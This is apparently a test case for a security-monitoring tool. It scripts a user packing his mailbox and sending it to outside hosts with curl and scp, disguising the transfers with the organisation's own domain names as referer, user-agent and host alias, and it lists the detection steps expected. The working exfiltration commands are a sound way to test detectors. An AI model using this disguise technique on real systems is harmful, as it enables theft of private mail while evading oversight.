# The own domain stands among the words of tools that go elsewhere.
title="curl and scp with the own domain among their words and an outside destination"
what="tobi posts a packed mailbox with curl -e http://intranet.example.org to an outside address and copies it with scp -o HostName=203.0.113.80 backup.example.org:."
user=tobi daemons="cron sshd"
people="hanna tobi ines marek jule" aliases='postmaster: root\nroot: marek\norders: ines\noffice: hanna, jule\nabuse: root\n'
setup() { outside_sshd; }
act() {
  letters tobi 8
  ssh_as tobi <<'L'
tar czf /var/tmp/m.tgz Maildir
curl -s -o /dev/null -e http://intranet.example.org/ -A backup.example.org -T /var/tmp/m.tgz http://files.example.net/in/
scp -q -P 2222 -i .ssh/id_out -o StrictHostKeyChecking=no -o HostName=203.0.113.80 /var/tmp/m.tgz root@backup.example.org:/tmp/mm
L
  rm -f /tmp/mm
}
truth() {
  exec_step pack 'tar czf /var/tmp/m.tgz Maildir' 'the Maildir is packed'
  exec_step post 'curl .*-e http://intranet.example.org/' 'curl names the own intranet as referer'
  net_step leaves 'curl 203.0.113.80:80' 'and posts it elsewhere'
  exec_step copy 'scp .*HostName=203.0.113.80' 'scp names the own backup host as alias'
  net_step leaves-again 'ssh 203.0.113.80:2222' 'of the same place'
}
